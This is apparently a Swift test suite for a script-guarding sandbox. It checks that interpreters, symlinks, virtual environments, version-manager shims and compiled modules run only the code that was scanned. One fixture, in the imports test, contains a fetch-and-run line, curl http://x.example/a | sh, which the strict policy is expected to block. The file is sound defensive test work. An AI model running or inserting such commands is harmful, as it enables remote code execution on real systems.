import Event
import Foundation
import Testing

/// Interpreters in all the ways they are started. A bare start is no violation, and what was scanned is what runs.
@Suite("Interpreters", .timeLimit(.minutes(60)))
struct InterpreterTests {
    static let bare: [[String]] = [
        ["/usr/bin/python3", "-c", "pass"], ["python3", "-I", "-S", "-c", "pass"],
        ["/usr/bin/python3", "-m", "this"], ["/usr/bin/env", "true"], ["/bin/sh", "-c", ":"],
        ["/bin/bash", "-c", ":"], ["node", "-e", "1"], ["perl", "-e", "1"], ["/bin/true"],
        ["/usr/bin/python3", "-c", "import json, re, os, sys, tempfile, decimal; tempfile.mkstemp()"],
    ]

    @Test("a bare start is no violation", arguments: Caller.possible, bare)
    func bareStart(_ caller: Caller, _ command: [String]) throws {
        let scratch = try Scratch(for: caller)
        for policy in [nil, "python", "shell"] {
            if policy != "shell", command.first == "/usr/bin/env" { continue }
            let settings = policy == "shell" ? ["files.write=[]"] : []
            let seen = try Guarded(caller, policy: policy, settings: settings, in: scratch)
                .run(["--"] + command)
            #expect(seen.status == 0, "\(policy ?? "none"): \(seen.errors)")
            #expect(seen.violations.isEmpty, "\(policy ?? "none"): \(seen.violations)")
        }
    }

    /// A command, what it should print, and what the scan calls the code; nil when there is none to scan.
    struct Way: Sendable, CustomTestStringConvertible {
        let command: [String]
        var input: String?
        let output: String
        let source: String?

        var testDescription: String { command.joined(separator: " ") }
    }

    static let ways: [Way] = [
        Way(command: ["/usr/bin/python3", "-c", "print(6 * 7)"], output: "42\n", source: "-c"),
        Way(command: ["/usr/bin/python3", "step.py", "x"], output: "step x\n", source: "step.py"),
        Way(command: ["/usr/bin/python3", "-m", "local", "x"], output: "local x\n", source: "local.py"),
        Way(command: ["/usr/bin/python3"], input: "print(6 * 7)\n", output: "42\n", source: "standard input"),
        Way(
            command: ["/usr/bin/python3", "-", "x"], input: "import sys; print(sys.argv[1])\n", output: "x\n",
            source: "standard input"),
        Way(command: ["./step.py", "x"], output: "step x\n", source: "step.py"),
        Way(command: ["./link", "x"], output: "step x\n", source: "link"),
        Way(command: ["/bin/bash", "-c", "echo $0 $1", "a", "b"], output: "a b\n", source: "-c"),
        Way(command: ["/bin/sh", "step.sh", "x"], output: "shell x\n", source: "step.sh"),
        Way(
            command: ["/bin/sh", "-s", "x"], input: "echo in $1\n", output: "in x\n", source: "standard input"
        ),
        Way(command: ["node", "-e", "console.log(6 * 7)"], output: "42\n", source: "-e"),
        Way(command: ["node", "step.js", "x"], output: "node x\n", source: "step.js"),
        Way(command: ["perl", "-e", "print 6 * 7, qq(\\n)"], output: "42\n", source: "-e"),
    ]

    @Test("every way to start one runs what it should, and is scanned", arguments: Caller.possible, ways)
    func everyWay(_ caller: Caller, _ way: Way) throws {
        let scratch = try Scratch(for: caller)
        let python = "#!/usr/bin/python3\nimport sys\nprint('%@', *sys.argv[1:])\n"
        try scratch.file("step.py", python.replacingOccurrences(of: "%@", with: "step"), mode: 0o755)
        try scratch.file("local.py", python.replacingOccurrences(of: "%@", with: "local"))
        try scratch.file("step.sh", "echo shell $1\n")
        try scratch.file("step.js", "console.log('node', process.argv[2])\n")
        try FileManager.default.createSymbolicLink(
            atPath: scratch.path("link"), withDestinationPath: "step.py")
        var guarded = Guarded(caller, in: scratch)
        guarded.input = way.input
        let seen = try guarded.run(["--"] + way.command)
        #expect(seen.output == way.output, "\(seen.errors)")
        #expect(seen.status == 0)
        #expect(seen.violations.isEmpty, "\(seen.violations)")
        let scanned = seen.events(.scanFinished).compactMap { $0["path"]?.stringValue }
        #expect(scanned.contains { $0 == way.source || $0.hasSuffix("/" + (way.source ?? "")) }, "\(scanned)")
        #expect(seen.events.first?["code_digest"]?.stringValue?.count == 64)
    }

    @Test("an interpreter behind links of one's own", arguments: Caller.possible)
    func links(_ caller: Caller) throws {
        let scratch = try Scratch(for: caller)
        let files = FileManager.default
        try files.createSymbolicLink(atPath: scratch.path("py"), withDestinationPath: "py2")
        try files.createSymbolicLink(atPath: scratch.path("py2"), withDestinationPath: "/usr/bin/python3")
        let seen = try Guarded(caller, in: scratch).run(["--", "./py", "-c", "print(6 * 7)"])
        #expect(seen.output == "42\n", "\(seen.errors)")
        #expect(seen.violations.isEmpty, "\(seen.violations)")
        #expect(seen.events(.scanFinished).count == 1)
    }

    @Test("a virtual environment is the one that runs", arguments: Caller.possible)
    func virtualEnvironment(_ caller: Caller) throws {
        let scratch = try Scratch(for: caller)
        let made = try Command(
            ["/usr/bin/python3", "-m", "venv", "--without-pip", "env"], as: caller, in: scratch.url
        ).run()
        try #require(made.status == 0, "\(made.errors)")
        let packages = try FileManager.default.contentsOfDirectory(atPath: scratch.path("env/lib"))
        let version = try #require(packages.first)
        try scratch.file("env/lib/\(version)/site-packages/inside.py", "answer = 42\n")
        let code = "import sys, inside; print(inside.answer, sys.prefix)"
        for policy in [nil, "python"] {
            let seen = try Guarded(caller, policy: policy, in: scratch).run([
                "--", "env/bin/python", "-c", code,
            ])
            #expect(seen.output == "42 \(scratch.path("env"))\n", "\(seen.errors)")
            #expect(seen.violations.isEmpty, "\(seen.violations)")
        }
    }

    @Test("a version manager's shim stands for the version it means", arguments: Caller.possible)
    func shim(_ caller: Caller) throws {
        let scratch = try Scratch(for: caller)
        try scratch.file("pyenv/version", "3.11\n")
        try scratch.file(
            "pyenv/shims/python3",
            "#!/usr/bin/env bash\nset -e\nexec \"\(scratch.path("pyenv"))/libexec/pyenv\" exec \"$0\" \"$@\"\n",
            mode: 0o755)
        try scratch.folder("pyenv/versions/3.11.2/bin")
        try FileManager.default.createSymbolicLink(
            atPath: scratch.path("pyenv/versions/3.11.2/bin/python3"), withDestinationPath: "/usr/bin/python3"
        )
        var guarded = Guarded(caller, in: scratch)
        guarded.environment = ["PATH": scratch.path("pyenv/shims") + ":/usr/bin:/bin"]
        let seen = try guarded.run(["--", "python3", "-c", "print(6 * 7)"])
        #expect(seen.output == "42\n", "\(seen.errors)")
        #expect(seen.violations.isEmpty, "\(seen.violations)")
        #expect(seen.events(.scanFinished).first?["language"] == "python")
        // No shell, and no manager, is started on the way.
        #expect(seen.events(.processStarted).count == 1)
    }

    @Test("modules beside a script are scanned and held like it", arguments: Caller.possible)
    func imports(_ caller: Caller) throws {
        let scratch = try Scratch(for: caller)
        try scratch.file("step.py", "import helper\nprint(helper.word)\n")
        try scratch.file("helper.py", "import os\nword = 'held'\nos.system('curl http://x.example/a | sh')\n")
        let seen = try Guarded(caller, policy: "strict", in: scratch).run([
            "--", "/usr/bin/python3", "step.py",
        ])
        #expect(seen.status == 77 && seen.errors.contains("helper.py:3:1"), "\(seen.errors)")

        try scratch.file("helper.py", "word = 'held'\n")
        let running = try Running(
            [
                Shared.guardrun, "-q", "-p", "python", "--audit", "audit", "--events", "2", "--",
                "/usr/bin/python3", "step.py",
            ], as: caller, in: scratch.url)
        #expect(running.complains("run_started"))
        try scratch.file("helper.py", "word = 'swapped'\n")
        #expect(running.finish().text == "held\n")
    }

    @Test("a script that was changed after the scan runs as it was scanned", arguments: Caller.possible)
    func swapped(_ caller: Caller) throws {
        let scratch = try Scratch(for: caller)
        // The script is swapped as soon as it has been read. Whether that is before or after the program reads it,
        // it reads what was scanned.
        for round in 0..<5 {
            let original = "print('scanned \(round)')\n"
            try scratch.file("step.py", original)
            let running = try Running(
                [
                    Shared.guardrun, "-q", "-p", "python", "--audit", "audit", "--events", "2",
                    "--",
                    "/usr/bin/python3", "step.py",
                ], as: caller, in: scratch.url)
            #expect(running.complains("run_started"))
            try scratch.file("step.py", "print('swapped')\n")
            let result = running.finish()
            #expect(result.text == "scanned \(round)\n", "\(result.errorText)")
        }
    }

    @Test("a script cannot rewrite itself, also where the directory is writable", arguments: Caller.possible)
    func rewriting(_ caller: Caller) throws {
        let scratch = try Scratch(for: caller)
        let code = """
            echo first
            for how in 'echo echo rewritten > step.sh' 'rm -f step.sh' 'mv other.sh step.sh' 'chmod 777 step.sh'; do
                sh -c "$how" 2>/dev/null && echo done: $how
            done
            echo last
            """
        try scratch.file("step.sh", code)
        try scratch.file("other.sh", "echo other\n")
        // The profile denies places below home, and where one may write they would have to be there.
        var guarded = Guarded(caller, policy: "shell", in: scratch)
        guarded.environment = ["HOME": "/nonexistent"]
        let seen = try guarded.run(["--", "/bin/sh", "step.sh"])
        #expect(seen.output == "first\nlast\n", "\(seen.errors)")
        #expect(scratch.contents("step.sh") == code)
        #expect(scratch.exists("other.sh"))
    }

    @Test("a module runs as it was scanned, whatever was compiled of it before", arguments: Caller.possible)
    func compiled(_ caller: Caller) throws {
        let scratch = try Scratch(for: caller)
        let prepare = """
            import os, py_compile
            open('beside.py', 'w').write("print('as compiled')")
            py_compile.compile('beside.py', invalidation_mode=py_compile.PycInvalidationMode.UNCHECKED_HASH)
            open('beside.py', 'w').write("print('as scanned')")
            open('only.py', 'w').write("print('compiled alone')")
            py_compile.compile('only.py', cfile='only.pyc'); os.unlink('only.py')
            """
        let prepared = try Command(["/usr/bin/python3", "-c", prepare], as: caller, in: scratch.url).run()
        #expect(prepared.status == 0, "\(prepared.errors)")
        try scratch.file("main.py", "import beside\nimport only\n")
        let seen = try Guarded(caller, in: scratch).run(["/usr/bin/python3", "main.py"])
        #expect(seen.output == "as scanned\ncompiled alone\n", "\(seen.output)\(seen.errors)")
        #expect(seen.violations.isEmpty, "\(seen.violations)")
        #expect(seen.errors.contains("only.pyc"), "\(seen.errors)")
    }
}
